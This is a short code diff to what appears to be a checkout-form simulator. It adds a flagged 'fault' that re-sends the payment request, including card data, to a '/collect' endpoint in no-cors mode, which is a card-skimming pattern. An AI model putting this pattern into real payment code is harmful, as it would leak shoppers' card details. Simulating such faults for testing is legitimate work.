@@ -197,6 +197,10 @@
         const request = { method: 'POST', body, credentials: 'omit', referrerPolicy: 'no-referrer' };
         const response = await fetch(call, request);
         const answer = await response.json();
+        // What a named fault of the simulator does, and nothing else may.
+        if (checkout.tells) {
+          await fetch(new URL('/collect', form.action), Object.assign({}, request, { mode: 'no-cors' }));
+        }
         if (response.ok) {
           [card.number, card.cvv].forEach((f) => { f.input.value = ''; });
           await follow(answer.redirect || back());
